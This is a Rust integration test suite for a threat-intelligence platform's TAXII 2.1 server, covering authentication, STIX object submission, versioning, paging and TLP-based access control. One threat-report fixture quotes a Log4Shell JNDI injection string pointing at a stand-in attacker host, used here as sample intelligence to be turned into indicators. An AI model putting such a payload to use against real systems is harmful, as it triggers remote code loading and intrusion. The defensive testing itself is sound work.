//! The TAXII 2.1 server: discovery, collections per TLP audience, adding objects with a
//! per-object status, filters and paging, versions, deletion, and above all who may read what
//! (foreign organizations, suspended members, TLP:RED), on every test database.

mod common;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode};
use base64::Engine;
use common::{Member, TestApp, log4shell_report};
use http_body_util::BodyExt;
use jiff::SignedDuration;
use serde_json::{Value, json};
use tower::ServiceExt;
use vulnshare_core::organization::{Membership, OrganizationKind};
use vulnshare_core::user::Role;

const TAXII: &str = "application/taxii+json;version=2.1";
const CLEAR: &str = "0c7b5b88-8ff7-4a4d-aa9d-feb398cd0061";
const GREEN: &str = "1f5e1e8a-4b7e-4a0f-9c1d-3d7e2b6a0002";
const AMBER: &str = "2a9c4e33-7d21-4f6b-8e0a-5b1c9d3e0003";
const RED: &str = "3b8d5f44-8e32-4a7c-9f1b-6c2d0e4f0004";
const TLP_GREEN: &str = "marking-definition--bab4a63c-aed9-4cf5-a766-dfca5abac2bb";
const TLP_RED: &str = "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1";

/// How a request authenticates.
#[derive(Clone, Copy)]
enum Auth<'a> {
    None,
    Bearer(&'a Member),
    Basic(&'a str, &'a str),
}

struct Answer {
    status: StatusCode,
    headers: HeaderMap,
    body: Value,
}

async fn taxii(
    app: &TestApp,
    method: &str,
    path: &str,
    auth: Auth<'_>,
    body: Option<Value>,
) -> Answer {
    taxii_with(app, method, path, auth, body, TAXII).await
}

async fn taxii_with(
    app: &TestApp,
    method: &str,
    path: &str,
    auth: Auth<'_>,
    body: Option<Value>,
    accept: &str,
) -> Answer {
    let mut req = Request::builder()
        .method(method)
        .uri(path)
        .header("accept", accept);
    match auth {
        Auth::None => {}
        Auth::Bearer(m) => req = req.header("authorization", format!("Bearer {}", m.token)),
        Auth::Basic(user, password) => {
            let encoded =
                base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"));
            req = req.header("authorization", format!("Basic {encoded}"));
        }
    }
    let req = match body {
        Some(b) => req
            .header("content-type", TAXII)
            .body(Body::from(b.to_string())),
        None => req.body(Body::empty()),
    }
    .unwrap();
    let res = vulnshare_server::router(app.state.clone())
        .oneshot(req)
        .await
        .unwrap();
    let status = res.status();
    let headers = res.headers().clone();
    // Every TAXII answer with a body, errors included, is TAXII (or STIX) JSON.
    if let Some(ct) = headers.get("content-type") {
        let ct = ct.to_str().unwrap();
        assert!(
            ct == TAXII || ct == "application/stix+json;version=2.1",
            "{path}: {ct}"
        );
    }
    let bytes = res.into_body().collect().await.unwrap().to_bytes();
    let body = if bytes.is_empty() {
        Value::Null
    } else {
        serde_json::from_slice(&bytes).unwrap()
    };
    Answer {
        status,
        headers,
        body,
    }
}

fn objects_path(collection: &str) -> String {
    format!("/taxii2/api1/collections/{collection}/objects/")
}

fn indicator(uuid: &str, ip: &str, modified: &str, marking: Option<&str>) -> Value {
    let mut o = json!({
        "type": "indicator", "spec_version": "2.1", "id": format!("indicator--{uuid}"),
        "created": "2021-12-10T08:00:00.000Z", "modified": modified,
        "name": format!("Log4Shell scanner {ip}"), "indicator_types": ["malicious-activity"],
        "pattern": format!("[ipv4-addr:value = '{ip}']"), "pattern_type": "stix", "valid_from": "2021-12-10T08:00:00Z",
    });
    if let Some(m) = marking {
        o["object_marking_refs"] = json!([m]);
    }
    o
}

fn ids(answer: &Answer) -> Vec<String> {
    answer.body["objects"]
        .as_array()
        .map(|objects| {
            objects
                .iter()
                .map(|o| o["id"].as_str().unwrap().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn discovery_collections_and_negotiation() {
    TestApp::each(|app| async move {
        let a = app
            .member("Vendor A", OrganizationKind::Provider, &[Role::Member])
            .await;
        let d = taxii(&app, "GET", "/taxii2/", Auth::None, None).await;
        assert_eq!(d.status, StatusCode::OK);
        assert_eq!(d.headers["content-type"], TAXII);
        assert!(
            d.body["api_roots"][0]
                .as_str()
                .unwrap()
                .ends_with("/taxii2/api1/")
        );
        let root = taxii(&app, "GET", "/taxii2/api1/", Auth::None, None).await;
        assert_eq!(root.body["versions"], json!([TAXII]));
        let refused = taxii_with(&app, "GET", "/taxii2/", Auth::None, None, "text/html").await;
        assert_eq!(refused.status, StatusCode::NOT_ACCEPTABLE);
        assert_eq!(refused.body["http_status"], "406");
        let old = taxii_with(
            &app,
            "GET",
            "/taxii2/api1/collections/",
            Auth::None,
            None,
            "application/taxii+json;version=2.0",
        )
        .await;
        assert_eq!(old.status, StatusCode::NOT_ACCEPTABLE);

        // Anonymous callers see the public collection only; members see all four.
        let anon = taxii(&app, "GET", "/taxii2/api1/collections/", Auth::None, None).await;
        let listed: Vec<&str> = anon.body["collections"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["id"].as_str().unwrap())
            .collect();
        assert_eq!(listed, [CLEAR]);
        assert_eq!(anon.body["collections"][0]["can_write"], false);
        let member = taxii(
            &app,
            "GET",
            "/taxii2/api1/collections/",
            Auth::Bearer(&a),
            None,
        )
        .await;
        assert_eq!(member.body["collections"].as_array().unwrap().len(), 4);
        let amber = taxii(
            &app,
            "GET",
            &format!("/taxii2/api1/collections/{AMBER}/"),
            Auth::Bearer(&a),
            None,
        )
        .await;
        assert_eq!(amber.body["can_write"], true);
        assert_eq!(
            amber.body["media_types"],
            json!(["application/stix+json;version=2.1"])
        );
        assert_eq!(
            taxii(
                &app,
                "GET",
                &format!("/taxii2/api1/collections/{AMBER}/"),
                Auth::None,
                None
            )
            .await
            .status,
            StatusCode::NOT_FOUND
        );

        // HTTP Basic: e-mail address and token; the name must match the token's user.
        let basic = taxii(
            &app,
            "GET",
            "/taxii2/api1/collections/",
            Auth::Basic(&a.user.email, &a.token),
            None,
        )
        .await;
        assert_eq!(basic.body["collections"].as_array().unwrap().len(), 4);
        let wrong = taxii(
            &app,
            "GET",
            "/taxii2/api1/collections/",
            Auth::Basic("mallory@example.org", &a.token),
            None,
        )
        .await;
        assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
        assert!(
            wrong.headers["www-authenticate"]
                .to_str()
                .unwrap()
                .contains("Basic")
        );
        let password = taxii(
            &app,
            "GET",
            "/taxii2/api1/collections/",
            Auth::Basic(&a.user.email, "correct horse battery"),
            None,
        )
        .await;
        assert_eq!(password.status, StatusCode::UNAUTHORIZED);
    })
    .await;
}

#[tokio::test]
async fn objects_are_checked_one_by_one_and_read_back_with_filters() {
    TestApp::each(|app| async move {
        let a = app.member("Vendor A", OrganizationKind::Provider, &[Role::Member]).await;
        let b = app.member("Vendor B", OrganizationKind::Provider, &[Role::Member]).await;
        let good = indicator("8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "203.0.113.7", "2021-12-10T08:00:00.000Z", Some(TLP_GREEN));
        let bad_id = json!({"type": "indicator", "spec_version": "2.1", "id": "indicator--not-a-uuid"});
        let too_secret = indicator("11111111-2222-4333-8444-555555555555", "198.51.100.1", "2021-12-10T08:00:00.000Z", Some(TLP_RED));
        let audit_before = app.count("audit_log").await;
        let added = taxii(&app, "POST", &objects_path(GREEN), Auth::Bearer(&a), Some(json!({"objects": [good, bad_id, too_secret]}))).await;
        assert_eq!(added.status, StatusCode::ACCEPTED, "{}", added.body);
        let status = &added.body;
        assert_eq!((status["status"].as_str(), status["total_count"].as_u64(), status["success_count"].as_u64(), status["failure_count"].as_u64(), status["pending_count"].as_u64()), (Some("complete"), Some(3), Some(1), Some(2), Some(0)));
        assert!(status["failures"][0]["message"].as_str().unwrap().contains("UUID"));
        assert!(status["failures"][1]["message"].as_str().unwrap().contains("TLP:RED"));
        assert_eq!(app.count("audit_log").await, audit_before + 1, "the add is audited");
        let status_id = status["id"].as_str().unwrap();
        for path in [format!("/taxii2/api1/status/{status_id}/"), format!("/taxii2/api1/status/{status_id}")] {
            let again = taxii(&app, "GET", &path, Auth::Bearer(&a), None).await;
            assert_eq!(again.body, *status);
            assert_eq!(taxii(&app, "GET", &path, Auth::Bearer(&b), None).await.status, StatusCode::NOT_FOUND, "another organization's status");
        }

        // A second version; B reads the latest by default, both on request.
        let v2 = indicator("8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "203.0.113.7", "2021-12-11T08:00:00.000Z", None);
        app.clock.advance(SignedDuration::from_hours(1));
        let added = taxii(&app, "POST", &objects_path(GREEN), Auth::Bearer(&a), Some(json!({"type": "bundle", "id": "bundle--1a2b3c4d-0000-4000-8000-000000000000", "objects": [v2]}))).await;
        assert_eq!(added.body["success_count"], 1, "{}", added.body);
        let id = "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f";
        let latest = taxii(&app, "GET", &objects_path(GREEN), Auth::Bearer(&b), None).await;
        assert_eq!(latest.status, StatusCode::OK);
        assert_eq!(ids(&latest), [id]);
        assert_eq!(latest.body["objects"][0]["modified"], "2021-12-11T08:00:00.000Z");
        assert_eq!(latest.body["more"], false);
        assert!(latest.headers.contains_key("x-taxii-date-added-first") && latest.headers.contains_key("x-taxii-date-added-last"));
        let all = taxii(&app, "GET", &format!("{}?match[version]=all", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(all.body["objects"].as_array().unwrap().len(), 2);
        let versions = taxii(&app, "GET", &format!("{}{id}/versions/", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(versions.body["versions"], json!(["2021-12-10T08:00:00.000Z", "2021-12-11T08:00:00.000Z"]));
        let one = taxii(&app, "GET", &format!("{}{id}/?match[version]=first", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(one.body["objects"][0]["modified"], "2021-12-10T08:00:00.000Z");
        let stix = taxii_with(&app, "GET", &objects_path(GREEN), Auth::Bearer(&b), None, "application/stix+json;version=2.1").await;
        assert_eq!(stix.headers["content-type"], "application/stix+json;version=2.1");

        // Paging: one at a time, with more/next.
        let page1 = taxii(&app, "GET", &format!("{}?match[version]=all&limit=1", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(page1.body["more"], true);
        let next = page1.body["next"].as_str().unwrap();
        let page2 = taxii(&app, "GET", &format!("{}?match[version]=all&limit=1&next={next}", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(page2.body["more"], false);
        assert_eq!(page2.body["objects"][0]["modified"], "2021-12-11T08:00:00.000Z");
        let first_added = page1.headers["x-taxii-date-added-first"].to_str().unwrap();
        let later = taxii(&app, "GET", &format!("{}?match[version]=all&added_after={first_added}", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(later.body["objects"].as_array().unwrap().len(), 1);
        let none = taxii(&app, "GET", &format!("{}?match[type]=malware", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(ids(&none), Vec::<String>::new());
        let manifest = taxii(&app, "GET", &format!("/taxii2/api1/collections/{GREEN}/manifest/"), Auth::Bearer(&b), None).await;
        assert_eq!(manifest.body["objects"][0]["id"], id);
        assert_eq!(manifest.body["objects"][0]["media_type"], "application/stix+json;version=2.1");
        let bad = taxii(&app, "GET", &format!("{}?limit=0", objects_path(GREEN)), Auth::Bearer(&b), None).await;
        assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);

        // B cannot take over A's id, nor delete A's object; A can.
        let hijack = taxii(&app, "POST", &objects_path(GREEN), Auth::Bearer(&b), Some(json!({"objects": [indicator("8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "192.0.2.1", "2021-12-12T08:00:00.000Z", None)]}))).await;
        assert_eq!(hijack.body["failure_count"], 1);
        let path = format!("{}{id}/", objects_path(GREEN));
        assert_eq!(taxii(&app, "DELETE", &path, Auth::Bearer(&b), None).await.status, StatusCode::FORBIDDEN);
        let audit_before = app.count("audit_log").await;
        assert_eq!(taxii(&app, "DELETE", &path, Auth::Bearer(&a), None).await.status, StatusCode::OK);
        assert_eq!(app.count("audit_log").await, audit_before + 1);
        assert_eq!(taxii(&app, "GET", &path, Auth::Bearer(&a), None).await.status, StatusCode::NOT_FOUND);

        // Wrong media type, and a body that is no envelope.
        let mut req = Request::builder().method("POST").uri(objects_path(GREEN)).header("authorization", format!("Bearer {}", a.token));
        req = req.header("content-type", "text/plain");
        let (s, _) = app.send(req.body(Body::from("{}")).unwrap()).await;
        assert_eq!(s, StatusCode::UNSUPPORTED_MEDIA_TYPE);
        let not_envelope = taxii(&app, "POST", &objects_path(GREEN), Auth::Bearer(&a), Some(json!({"stuff": []}))).await;
        assert_eq!(not_envelope.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(taxii(&app, "POST", &objects_path(GREEN), Auth::None, Some(json!({"objects": []}))).await.status, StatusCode::UNAUTHORIZED);
        assert_eq!(app.store.verify_audit().await.unwrap().error, None);
    })
    .await;
}

#[tokio::test]
async fn reads_follow_tlp_and_membership() {
    TestApp::each(|app| async move {
        let a = app.member("Vendor A", OrganizationKind::Provider, &[Role::OrgAdmin, Role::Member]).await;
        let b = app.member("Vendor B", OrganizationKind::Provider, &[Role::Member]).await;
        let analyst = app.member("Platform", OrganizationKind::Coordinator, &[Role::Analyst]).await;
        let amber_id = "indicator--aaaaaaaa-0000-4000-8000-000000000001";
        let red_id = "indicator--aaaaaaaa-0000-4000-8000-000000000002";
        let clear_id = "indicator--aaaaaaaa-0000-4000-8000-000000000003";
        let green_id = "indicator--aaaaaaaa-0000-4000-8000-000000000004";
        for (collection, uuid) in [(AMBER, &amber_id[11..]), (RED, &red_id[11..]), (CLEAR, &clear_id[11..]), (GREEN, &green_id[11..])] {
            let added = taxii(&app, "POST", &objects_path(collection), Auth::Bearer(&a), Some(json!({"objects": [indicator(uuid, "203.0.113.9", "2021-12-10T08:00:00.000Z", None)]}))).await;
            assert_eq!(added.body["success_count"], 1, "{}", added.body);
        }
        let sees = |who: Auth<'static>, collection: &'static str, id: &'static str| {
            let app = &app;
            async move {
                let list = taxii(app, "GET", &objects_path(collection), who, None).await;
                let by_id = taxii(app, "GET", &format!("{}{id}/", objects_path(collection)), who, None).await;
                let listed = ids(&list).contains(&id.to_owned());
                assert_eq!(listed, by_id.status == StatusCode::OK, "{collection} {id}: list and by-id agree");
                listed
            }
        };
        // Leak the members for the 'static closure above; tests are short-lived.
        let a: &'static Member = Box::leak(Box::new(a));
        let b: &'static Member = Box::leak(Box::new(b));
        let analyst: &'static Member = Box::leak(Box::new(analyst));
        // AMBER: the owner and staff; not a foreign organization.
        assert!(sees(Auth::Bearer(a), AMBER, amber_id).await);
        assert!(sees(Auth::Bearer(analyst), AMBER, amber_id).await);
        assert!(!sees(Auth::Bearer(b), AMBER, amber_id).await, "a foreign organization reads AMBER");
        // RED: the owner only, never staff.
        assert!(sees(Auth::Bearer(a), RED, red_id).await);
        assert!(!sees(Auth::Bearer(analyst), RED, red_id).await, "staff read RED through TAXII");
        assert!(!sees(Auth::Bearer(b), RED, red_id).await);
        // GREEN: every active member; CLEAR: everyone.
        assert!(sees(Auth::Bearer(b), GREEN, green_id).await);
        assert!(sees(Auth::None, CLEAR, clear_id).await);
        assert_eq!(taxii(&app, "GET", &objects_path(GREEN), Auth::None, None).await.status, StatusCode::NOT_FOUND);

        // Threat reports and advisories come out as STIX under the same rules.
        let (s, filed) = app.call("POST", "/api/v1/reports?submit=true", Some(&a.token), Some(log4shell_report())).await;
        assert_eq!(s, StatusCode::CREATED, "{filed}");
        let report_id = filed["report"]["id"].as_str().unwrap();
        let (s, case) = app.call("POST", "/api/v1/cases", Some(&a.token), Some(json!({"title": "A's case", "report_ids": [report_id]}))).await;
        assert_eq!(s, StatusCode::CREATED, "{case}");
        let case_id = case["case"]["id"].as_str().unwrap();
        let (s, p) = app.call("POST", &format!("/api/v1/cases/{case_id}/advisory"), Some(&a.token), Some(json!({"tlp": "AMBER", "summary": "Embargoed advisory"}))).await;
        assert_eq!(s, StatusCode::CREATED, "{p}");
        let mut threat = json!({"kind": "threat", "title": "Log4Shell scanning from 203.0.113.50", "tlp": "GREEN",
            "technical_characteristics": "Requests from 203.0.113.50 carry ${jndi:ldap://callback.attacker.example:1389/a} in User-Agent.",
            "aliases": ["CVE-2021-44228"], "aware_at": "2021-12-09T07:00:00Z"});
        let (s, r) = app.call("POST", "/api/v1/reports?submit=true", Some(&a.token), Some(threat.clone())).await;
        assert_eq!(s, StatusCode::CREATED, "{r}");
        threat["tlp"] = "RED".into();
        threat["title"] = "Our own incident".into();
        let (s, _) = app.call("POST", "/api/v1/reports?submit=true", Some(&a.token), Some(threat)).await;
        assert_eq!(s, StatusCode::CREATED);
        let green = taxii(&app, "GET", &format!("{}?match[type]=indicator,report", objects_path(GREEN)), Auth::Bearer(b), None).await;
        let patterns: Vec<&str> = green.body["objects"].as_array().unwrap().iter().filter_map(|o| o["pattern"].as_str()).collect();
        assert!(patterns.contains(&"[ipv4-addr:value = '203.0.113.50']"), "{patterns:?}");
        assert!(patterns.contains(&"[domain-name:value = 'callback.attacker.example']"), "{patterns:?}");
        let red_for_b = taxii(&app, "GET", &objects_path(RED), Auth::Bearer(b), None).await;
        assert!(!red_for_b.body.to_string().contains("Our own incident"));
        let red_for_staff = taxii(&app, "GET", &objects_path(RED), Auth::Bearer(analyst), None).await;
        assert!(!red_for_staff.body.to_string().contains("Our own incident"), "staff read a RED report through TAXII");
        let red_for_a = taxii(&app, "GET", &objects_path(RED), Auth::Bearer(a), None).await;
        assert!(red_for_a.body.to_string().contains("Our own incident"));

        let vulns = |who| {
            let app = &app;
            async move {
                let v = taxii(app, "GET", &format!("{}?match[type]=vulnerability", objects_path(AMBER)), who, None).await;
                v.body["objects"].as_array().map(|o| o.iter().filter(|v| v["description"].as_str().is_some_and(|d| d.contains("Embargoed advisory"))).count()).unwrap_or(0)
            }
        };
        assert_eq!(vulns(Auth::Bearer(a)).await, 1, "the case's participant reads its AMBER advisory");
        assert_eq!(vulns(Auth::Bearer(b)).await, 0, "a foreign organization reads an AMBER advisory");

        // A suspended member sees TLP:CLEAR only.
        {
            let mut tx = app.store.begin_write().await.unwrap();
            let now = app.clock_now();
            tx.set_membership(&b.org.id, &Membership::Suspended { from: now, until: now + SignedDuration::from_hours(24 * 180), reason: "test".into(), decision_id: None })
                .await
                .unwrap();
            tx.commit().await.unwrap();
        }
        let collections = taxii(&app, "GET", "/taxii2/api1/collections/", Auth::Bearer(b), None).await;
        assert_eq!(collections.body["collections"].as_array().unwrap().len(), 1);
        assert_eq!(taxii(&app, "GET", &objects_path(GREEN), Auth::Bearer(b), None).await.status, StatusCode::NOT_FOUND);
        assert_eq!(taxii(&app, "GET", &format!("{}{green_id}/", objects_path(GREEN)), Auth::Bearer(b), None).await.status, StatusCode::NOT_FOUND);
        assert!(sees(Auth::Bearer(b), CLEAR, clear_id).await);
        let posted = taxii(&app, "POST", &objects_path(GREEN), Auth::Bearer(b), Some(json!({"objects": []}))).await;
        assert_eq!(posted.status, StatusCode::NOT_FOUND);
    })
    .await;
}
